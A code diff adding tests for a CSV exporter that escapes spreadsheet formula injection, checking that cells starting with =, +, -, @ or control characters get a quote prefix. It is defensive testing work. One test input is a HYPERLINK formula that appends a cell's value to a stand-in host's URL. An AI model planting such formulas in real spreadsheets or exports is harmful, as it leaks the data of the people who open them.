@@ -81,13 +81,62 @@ describe("an answer", () => {
     expect(await response.json()).toMatchObject({ error: "not_acceptable", reason: expect.stringContaining("text/csv") });
   });
 
+  it.each([
+    ["=1+2", `"'=1+2"`],
+    ['=HYPERLINK("http://x.example?"&A1,"a")', `"'=HYPERLINK(""http://x.example?""&A1,""a"")"`],
+    ["+1", `"'+1"`],
+    ["-1", `"'-1"`],
+    ["@SUM(A1)", `"'@SUM(A1)"`],
+    ["\t=1", `"'\t=1"`],
+    ["\r=1", `"'\r=1"`],
+    ["\n=1", `"'\n=1"`],
+    ["\uff1d1", `"'\uff1d1"`],
+    ["'=1", `"''=1"`],
+    ["a;=1", `"a;=1"`],
+    ["a=1", "a=1"],
+    ["'a", "'a"],
+    [-1, "-1"],
+    [-1e-9, "-1e-9"],
+  ])("in CSV has no text that a spreadsheet computes: %j", (value, cell) => {
+    expect(format({ data: [{ a: value }], meta: {} }, "text/csv")!.body).toBe(`a\r\n${cell}\r\n`);
+  });
+
+  it("in CSV has names from the wire as text, and figures as they are", async () => {
+    await post("formulas", "a", bundle(1n, ["=1+2.example", "b.example"]), { "tallywire-tags": "site=%3D1%2B2" });
+    const top = `${QUERY}&by=site&${WINDOW}`;
+    const rows = readCsv(await (await get("formulas", { accept: "text/csv" }, top)).text());
+    expect(rows.slice(1).map(([, site, key, value]) => [site, key, value])).toEqual([
+      ["'=1+2", "'=1+2.example", "1"],
+      ["'=1+2", "b.example", "1"],
+    ]);
+    const json = await (await get("formulas", {}, top)).json<{ data: object[] }>();
+    expect(json.data).toMatchObject([{ site: "=1+2", key: "=1+2.example" }, { site: "=1+2" }]);
+  });
+
   it("in CSV comes back as it was, whatever stands in its cells", () => {
-    const cell = fc.oneof(fc.string(), fc.string({ unit: "binary" }), fc.double({ noNaN: true, noDefaultInfinity: true }));
+    const formula = fc
+      .tuple(fc.constantFrom("=", "+", "-", "@", "'", "'=", "''-", "\t"), fc.string())
+      .map((parts) => parts.join(""));
+    const cell = fc.oneof(
+      fc.string(),
+      formula,
+      fc.string({ unit: "binary" }),
+      fc.double({ noNaN: true, noDefaultInfinity: true }),
+    );
     const rows = fc.array(fc.record({ a: cell, 'b,"c': cell, d: fc.constant(null) }), { minLength: 1, maxLength: 4 });
     fc.assert(
       fc.property(rows, (data) => {
         const { body } = format({ data, meta: {} }, "text/csv")!;
-        expect(readCsv(body)).toEqual([["a", 'b,"c', "d"], ...data.map((row) => [String(row.a), String(row['b,"c']), ""])]);
+        const [head, ...lines] = readCsv(body);
+        expect(head).toEqual(["a", 'b,"c', "d"]);
+        for (const [index, row] of data.entries()) {
+          for (const [column, value] of [row.a, row['b,"c']].entries()) {
+            const cell = lines[index]![column]!;
+            const isApart = typeof value === "string" && /^'+[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/.test(cell);
+            expect(isApart ? cell.slice(1) : cell).toBe(String(value));
+            if (typeof value === "string") expect(cell).not.toMatch(/^[=+\-@\t\r\n]/);
+          }
+        }
       }),
     );
   });
